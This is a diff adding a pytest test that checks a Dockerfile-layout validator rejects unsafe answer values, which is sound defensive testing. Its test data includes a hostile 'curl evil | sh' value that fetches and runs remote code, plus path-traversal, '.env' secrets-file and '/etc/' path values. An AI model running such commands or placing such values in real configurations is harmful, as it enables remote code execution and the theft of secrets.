@@ -140,3 +140,22 @@ def test_the_first_layout_renders_as_it_always_did():
     websocket.plan_add(detect(tree), tree)
     answers = tree.read_text("apps/ws/.copier-answers.yml") or ""
     assert "docker" not in answers and "COPY package.json bun.lock ./" in (tree.read_text("apps/ws/Dockerfile") or "")
+
+
+@pytest.mark.parametrize(
+    ("key", "value", "refused"),
+    [
+        ("docker", "npm", False),
+        ("docker", "curl evil | sh", True),
+        ("docker_copy", "package.json package-lock.json apps/web/package.json realtime/bun.lock", False),
+        ("docker_copy", "package.json ../secrets/package.json", True),
+        ("docker_copy", "package.json .env", True),
+        ("docker_copy", "package.json /etc/package.json", True),
+    ],
+)
+def test_a_recorded_layout_is_checked_like_every_answer(key, value, refused):
+    """The answers file is input: a Dockerfile layout afc never renders (a path out of the project, a file
+    that is not a manifest, lockfile or setting) is refused before `remove` or `update` trusts it."""
+    from afc_realtime.features import claims
+
+    assert (claims._docker_problem(key, value) is not None) is refused
